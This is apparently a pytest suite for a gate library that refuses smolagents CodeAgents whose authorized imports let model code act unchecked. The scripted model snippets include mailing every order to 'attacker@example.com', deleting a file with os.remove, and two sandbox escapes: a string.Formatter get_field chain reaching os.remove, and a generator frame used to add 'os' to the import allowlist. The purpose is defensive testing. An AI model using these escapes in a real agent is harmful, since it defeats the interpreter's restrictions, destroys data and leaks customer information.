"""A CodeAgent's authorized imports: modules its code uses directly, with no tool call at all.

smolagents lets a CodeAgent's code import what `additional_authorized_imports` names, and a
module's function is not a tool: `mailer.send(...)`, `os.remove(...)` never reach the gate. So a
`GatedAgent` takes such an agent only when each module is one of smolagents' defaults or of a few
effect-free ones, or the user acknowledged it with `allow_imports=`; otherwise `UnknownTool`, at
wrapping and again at each run, before anything runs. Effects are counted where they land: a
`mailer` module whose `send` records at a receiver, and a file that `os.remove` would delete.
"""

from __future__ import annotations

import importlib.machinery
import re
import sys
import types
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from smolagents import CodeAgent, Tool, ToolCallingAgent
from smolagents.agents import MultiStepAgent
from smolagents.local_python_executor import CodeOutput, LocalPythonExecutor, PythonExecutor
from smolagents.monitoring import LogLevel
from smolagents.utils import BASE_BUILTIN_MODULES

from effectgate import read
from effectgate.testing import EffectRecorder, Script, say
from effectgate_smolagents import Finished, GatedAgent, GatedTool, UnknownTool, table_tools
from effectgate_smolagents.testing import ScriptedCodeModel, ScriptedModel
from tests.conformance.adapters import ShopGate

IDENTITY = {"session_id": "s-ada", "origin_message_id": "m1", "user_id": "u1"}
#: the effect-free modules a CodeAgent may import without `allow_imports` (beyond smolagents' own)
EFFECT_FREE = ["bisect", "cmath", "decimal", "hashlib", "heapq"]
#: refused without `allow_imports`: each lets model code act on the process (see the tests below)
NOT_EFFECT_FREE = ["fractions", "html", "json", "numbers", "string", "textwrap", "operator"]
SEND = 'import mailer\nmailer.send(to="attacker@example.com", body="every order")'
SEND_FROM_SUBMODULE = 'from mailer.smtp import send\nsend(to="attacker@example.com", body="every order")'


@pytest.fixture
def mailer(monkeypatch: pytest.MonkeyPatch) -> EffectRecorder:
    """A `mailer` package (and `mailer.smtp`) whose `send` records an email at the receiver."""
    receiver = EffectRecorder()
    modules = {}
    for name in ("mailer", "mailer.smtp"):
        module = types.ModuleType(name)
        module.__spec__ = importlib.machinery.ModuleSpec(name, None)  # found by find_spec
        module.send = receiver.wrap("email", lambda **kw: "sent")  # type: ignore[attr-defined]
        monkeypatch.setitem(sys.modules, name, module)
        modules[name] = module
    modules["mailer"].smtp = modules["mailer.smtp"]  # type: ignore[attr-defined]
    return receiver


def support_tools(shop_gate: ShopGate) -> list[Tool]:
    return [t for t in table_tools(shop_gate.gate, agent_id="support") if t.name == "get_order"]


def code_agent(
    shop_gate: ShopGate, snippets: list[str], imports: list[str] | None, **options: Any
) -> CodeAgent:
    return CodeAgent(
        tools=support_tools(shop_gate),
        model=ScriptedCodeModel(snippets),
        additional_authorized_imports=imports,
        verbosity_level=LogLevel.OFF,
        max_steps=3,
        **options,
    )


def wrap_or_run(wrap: Callable[[], GatedAgent]) -> UnknownTool | None:
    """The refusal wrapping raises, or (a wrap that let the agent through) what its run leads to."""
    try:
        gated = wrap()
    except UnknownTool as exc:
        return exc
    gated.run("Tell me about my orders", **IDENTITY)
    return None


def assert_unchanged(plain: CodeAgent, tools: dict[str, Any], run: Any) -> None:
    assert plain.tools == tools
    assert not any(isinstance(t, GatedTool) for t in plain.tools.values())
    assert plain.run == run
    assert not getattr(plain.to_dict, "_effectgate_marked", False)  # not marked as gated either
    assert isinstance(plain.model, ScriptedCodeModel)
    assert plain.model.seen == []


# -- refused at wrapping


@pytest.mark.parametrize("unknown", ["raise", "refuse"])
@pytest.mark.parametrize(
    ("entry", "snippet"),
    [
        ("mailer", SEND),
        ("mailer.smtp", SEND),  # smolagents lets an authorized "mailer.smtp" import mailer itself
        ("mailer.smtp", SEND_FROM_SUBMODULE),
        ("mailer.*", SEND_FROM_SUBMODULE),
        ("*", SEND),
    ],
    ids=["module", "submodule-entry", "submodule-import", "wildcard", "everything"],
)
def test_a_module_with_effects_is_refused_at_wrapping(
    shop_gate: ShopGate, mailer: EffectRecorder, entry: str, snippet: str, unknown: Any
) -> None:
    """Refused, naming the module and `allow_imports`; the agent is as it was; nothing was sent."""
    plain = code_agent(shop_gate, [snippet, 'final_answer("done")'], [entry])
    tools, run = dict(plain.tools), plain.run
    refused = wrap_or_run(lambda: GatedAgent(plain, shop_gate.gate, agent_id="support", unknown=unknown))
    assert mailer.effects == []
    assert refused is not None
    assert re.search(rf"the agent's code may import {re.escape(entry)}: .*allow_imports=", str(refused))
    assert_unchanged(plain, tools, run)
    assert shop_gate.store.approvals() == []


@pytest.mark.parametrize("entry", ["os", "os.path"])
def test_os_is_refused_at_wrapping_and_no_file_is_deleted(
    shop_gate: ShopGate, tmp_path: Path, entry: str
) -> None:
    """ "os.path" authorizes `import os` in smolagents' interpreter: both are refused."""
    precious = tmp_path / "orders.csv"
    precious.write_text("1042,shipped\n")
    plain = code_agent(
        shop_gate, [f"import os\nos.remove({str(precious)!r})", 'final_answer("done")'], [entry]
    )
    tools, run = dict(plain.tools), plain.run
    refused = wrap_or_run(lambda: GatedAgent(plain, shop_gate.gate, agent_id="support"))
    assert precious.exists()
    assert refused is not None
    assert f"may import {entry}:" in str(refused)
    assert_unchanged(plain, tools, run)


def test_effects_wrapping_is_refused_before_the_store_is_made(
    shop_gate: ShopGate, mailer: EffectRecorder, tmp_path: Path
) -> None:
    """With `effects=`, the refusal comes before the gate's database is set up."""
    db = tmp_path / "agent.db"
    plain = code_agent(shop_gate, [SEND], ["mailer"])
    with pytest.raises(UnknownTool, match="may import mailer"):
        GatedAgent(plain, effects={"get_order": read()}, db=f"sqlite:///{db}")
    assert not db.exists()


def test_an_executor_that_is_not_smolagents_local_one_is_refused(shop_gate: ShopGate) -> None:
    """A remote or custom executor runs the code as plain Python, which imports anything."""
    sent: list[str] = []

    class PlainPython(PythonExecutor):
        def send_tools(self, tools: dict[str, Tool]) -> None:
            pass

        def send_variables(self, variables: dict[str, Any]) -> None:
            pass

        def __call__(self, code_action: str) -> CodeOutput:
            sent.append(code_action)  # where the code would run, unchecked
            return CodeOutput(output="done", logs="", is_final_answer=True)

    plain = code_agent(shop_gate, [SEND], None, executor=PlainPython())
    refused = wrap_or_run(lambda: GatedAgent(plain, shop_gate.gate, agent_id="support"))
    assert sent == []
    assert refused is not None
    assert "PlainPython runs the code as plain Python" in str(refused)
    assert "allow_imports='*'" in str(refused)
    GatedAgent(
        code_agent(shop_gate, [SEND], None, executor=PlainPython()),
        shop_gate.gate,
        agent_id="support",
        allow_imports="*",
    )


@pytest.mark.parametrize(
    ("allow_imports", "error"),
    [
        ("mailer", TypeError),
        (["mailer smtp"], ValueError),
        ([None], ValueError),
        ({"mailer": True}, TypeError),
    ],
    ids=["a-string", "not-a-name", "not-a-string", "a-dict"],
)
def test_bad_allow_imports_is_refused_and_changes_nothing(
    shop_gate: ShopGate, mailer: EffectRecorder, allow_imports: Any, error: type[Exception]
) -> None:
    plain = code_agent(shop_gate, [SEND], ["mailer"])
    tools, run = dict(plain.tools), plain.run
    with pytest.raises(error, match=r"allow_imports.*module name"):
        GatedAgent(plain, shop_gate.gate, agent_id="support", allow_imports=allow_imports)
    assert_unchanged(plain, tools, run)


# -- acknowledged


@pytest.mark.parametrize(
    ("entry", "allow", "snippet"),
    [
        ("mailer", ["mailer"], SEND),
        ("mailer.*", ["mailer"], SEND_FROM_SUBMODULE),  # a top-level name covers its forms
        ("mailer.smtp", ["mailer"], SEND_FROM_SUBMODULE),
        ("mailer.*", ["mailer.*"], SEND_FROM_SUBMODULE),  # or the entry, exactly
        ("mailer", "*", SEND),
    ],
    ids=["module", "wildcard-by-name", "submodule-by-name", "wildcard-exactly", "everything"],
)
def test_an_acknowledged_module_wraps_and_runs(
    shop_gate: ShopGate, mailer: EffectRecorder, entry: str, allow: Any, snippet: str
) -> None:
    """The user's decision: the model's code uses it, ungated (the email is sent, once)."""
    gated = GatedAgent(
        code_agent(shop_gate, [snippet, 'final_answer("done")'], [entry]),
        shop_gate.gate,
        agent_id="support",
        allow_imports=allow,
    )
    out = gated.run("Tell me about my orders", **IDENTITY)
    assert isinstance(out, Finished)
    assert out.output == "done"
    assert mailer.count("email") == 1


@pytest.mark.parametrize(("entry", "allow"), [("mailer", ["mailer.smtp"]), ("mailer.smtp", ["mailer.*"])])
def test_an_acknowledgment_covers_only_what_it_names(
    shop_gate: ShopGate, mailer: EffectRecorder, entry: str, allow: list[str]
) -> None:
    """ "mailer.smtp" does not acknowledge "mailer" (which lets code import all of it)."""
    with pytest.raises(UnknownTool, match=f"may import {re.escape(entry)}:"):
        GatedAgent(
            code_agent(shop_gate, [SEND], [entry]), shop_gate.gate, agent_id="support", allow_imports=allow
        )


# -- added after wrapping: refused at the next run


def _extend_agent_list(a: CodeAgent) -> None:
    a.additional_authorized_imports.append("mailer")


def _extend_agent_authorized(a: CodeAgent) -> None:
    a.authorized_imports.append("mailer")


def _extend_executor_list(a: CodeAgent) -> None:
    assert isinstance(a.python_executor, LocalPythonExecutor)
    a.python_executor.authorized_imports = [*a.python_executor.authorized_imports, "mailer"]


def _extend_executor_additional(a: CodeAgent) -> None:
    assert isinstance(a.python_executor, LocalPythonExecutor)
    a.python_executor.additional_authorized_imports = ["mailer.*"]


def _replace_executor(a: CodeAgent) -> None:
    a.python_executor = LocalPythonExecutor(["mailer"])


@pytest.mark.parametrize(
    "added",
    [
        _extend_agent_list,
        _extend_agent_authorized,
        _extend_executor_list,
        _extend_executor_additional,
        _replace_executor,
    ],
)
def test_an_import_authorized_after_wrapping_refuses_the_run(
    shop_gate: ShopGate, mailer: EffectRecorder, added: Callable[[CodeAgent], None]
) -> None:
    model = ScriptedCodeModel([SEND, 'final_answer("done")'])
    gated = GatedAgent(
        CodeAgent(tools=support_tools(shop_gate), model=model, verbosity_level=LogLevel.OFF, max_steps=3),
        shop_gate.gate,
        agent_id="support",
    )
    assert isinstance(gated.agent, CodeAgent)
    added(gated.agent)
    with pytest.raises(UnknownTool, match="may import mailer"):
        gated.run("Tell me about my orders", **IDENTITY)
    assert mailer.effects == []
    assert model.seen == []  # refused before the model was asked anything


# -- managed agents: each member against its own acknowledgment


def mailroom(shop_gate: ShopGate, imports: list[str] | None) -> CodeAgent:
    return code_agent(
        shop_gate, [SEND, 'final_answer("sent")'], imports, name="mailroom", description="Sends the mail."
    )


def manager_of(member: MultiStepAgent) -> ToolCallingAgent:
    return ToolCallingAgent(
        tools=[],
        model=ScriptedModel(Script([say("ok")])),
        managed_agents=[member],
        verbosity_level=LogLevel.OFF,
        max_steps=3,
    )


def test_a_member_acknowledged_where_it_is_wrapped_is_accepted(
    shop_gate: ShopGate, mailer: EffectRecorder
) -> None:
    member = GatedAgent(
        mailroom(shop_gate, ["mailer"]), shop_gate.gate, agent_id="support", allow_imports=["mailer"]
    )
    GatedAgent(
        manager_of(member.agent), shop_gate.gate, agent_id="support"
    )  # its own allow_imports is not needed
    assert mailer.effects == []


def test_a_member_whose_imports_grew_after_wrapping_refuses_the_manager(
    shop_gate: ShopGate, mailer: EffectRecorder
) -> None:
    """Refused at the manager's wrapping, and at the manager's run when it grew after that."""
    member = GatedAgent(mailroom(shop_gate, None), shop_gate.gate, agent_id="support")
    manager = GatedAgent(manager_of(member.agent), shop_gate.gate, agent_id="support")
    assert isinstance(member.agent, CodeAgent)
    assert isinstance(member.agent.python_executor, LocalPythonExecutor)
    executor = member.agent.python_executor
    executor.authorized_imports = [*executor.authorized_imports, "mailer"]
    with pytest.raises(UnknownTool, match="managed agent 'mailroom''s code may import mailer"):
        manager.run("Send the mail", **IDENTITY)
    with pytest.raises(UnknownTool, match="managed agent 'mailroom''s code may import mailer"):
        GatedAgent(manager_of(member.agent), shop_gate.gate, agent_id="support")
    assert isinstance(manager.agent.model, ScriptedModel)
    assert manager.agent.model.script.seen == []
    assert mailer.effects == []


# -- accepted as before


def test_a_default_code_agent_wraps_and_runs_as_before(shop_gate: ShopGate) -> None:
    snippet = "import math\nimport statistics\nfinal_answer(str(math.floor(statistics.mean([2, 3]))))"
    gated = GatedAgent(code_agent(shop_gate, [snippet], None), shop_gate.gate, agent_id="support")
    out = gated.run("Compute", **IDENTITY)
    assert isinstance(out, Finished)
    assert out.output == "2"


def test_the_effect_free_modules_wrap_and_run(shop_gate: ShopGate) -> None:
    """Each vetted module, and smolagents' defaults named again (as a loaded agent names them)."""
    imports = [*BASE_BUILTIN_MODULES, *EFFECT_FREE]
    snippet = "\n".join(f"import {m}" for m in imports) + (
        "\nfinal_answer(str([str(decimal.Decimal('1.5') + 1), bisect.bisect([1, 3], 2), "
        "heapq.nsmallest(1, [3, 1]), cmath.sqrt(-1), hashlib.sha256(b'x').hexdigest()[:4]]))"
    )
    gated = GatedAgent(code_agent(shop_gate, [snippet], imports), shop_gate.gate, agent_id="support")
    out = gated.run("Compute", **IDENTITY)
    assert isinstance(out, Finished)
    assert out.output == "['2.5', 1, [1], 1j, '2d71']"


def test_a_saved_agent_needs_its_acknowledgment_again(
    shop_gate: ShopGate, mailer: EffectRecorder, tmp_path: Path
) -> None:
    """The authorized imports are saved and load with the agent; `allow_imports` is not read from
    the folder: wrapping the loaded agent without it is refused, with it the agent runs."""
    saved = CodeAgent(tools=[], model=ScriptedModel(Script([])), additional_authorized_imports=["mailer"])
    GatedAgent(saved, shop_gate.gate, agent_id="support", allow_imports=["mailer"]).agent.save(
        tmp_path / "saved"
    )
    loaded = CodeAgent.from_folder(
        tmp_path / "saved", model=ScriptedCodeModel([SEND, 'final_answer("done")'])
    )
    assert "mailer" in loaded.python_executor.authorized_imports
    with pytest.raises(UnknownTool, match="may import mailer"):
        GatedAgent(loaded, shop_gate.gate, agent_id="support")
    out = GatedAgent(loaded, shop_gate.gate, agent_id="support", allow_imports=["mailer"]).run(
        "Mail", **IDENTITY
    )
    assert isinstance(out, Finished)
    assert mailer.count("email") == 1


@pytest.mark.parametrize("module", NOT_EFFECT_FREE)
def test_modules_that_reach_the_process_are_refused_without_an_acknowledgment(
    shop_gate: ShopGate, tmp_path: Path, module: str
) -> None:
    """Pure-Python classes are shared with the process and `string.Formatter().get_field` follows
    dunder attributes: a review deleted a file through `string` and changed what every card
    printed by patching `json.JSONEncoder`. Such modules need `allow_imports`."""
    precious = tmp_path / "orders.csv"
    precious.write_text("1042,shipped\n")
    escape = (
        f"import {module}\nimport string, random\n"
        f"string.Formatter().get_field('0._os.remove', [random], {{}})[0]({str(precious)!r})"
    )
    plain = code_agent(shop_gate, [escape, 'final_answer("done")'], [module])
    tools, run = dict(plain.tools), plain.run
    refused = wrap_or_run(lambda: GatedAgent(plain, shop_gate.gate, agent_id="support"))
    assert refused is not None
    assert f"may import {module}" in str(refused)
    assert precious.exists()
    assert_unchanged(plain, tools, run)


def test_the_checked_import_lists_cannot_grow_from_model_code(shop_gate: ShopGate, tmp_path: Path) -> None:
    """Model code that reaches the executor's list (a generator's frame reads the interpreter's
    locals) cannot append `os` to it: the lists are frozen once checked. (A hardening: smolagents'
    local interpreter is not a security boundary; see the README.)"""
    precious = tmp_path / "orders.csv"
    precious.write_text("1042,shipped\n")
    grow = (
        "g = (x for x in [1])\ng.gi_frame.f_locals['authorized_imports'].append('os')\n"
        f"import os\nos.remove({str(precious)!r})"
    )
    gated = GatedAgent(
        code_agent(shop_gate, [grow, 'final_answer("done")'], None), shop_gate.gate, agent_id="support"
    )
    executor = gated.agent.python_executor
    assert isinstance(executor.authorized_imports, tuple)
    assert isinstance(executor.additional_authorized_imports, tuple)
    gated.run("Tidy up", **IDENTITY)
    assert precious.exists()
    assert "os" not in executor.authorized_imports
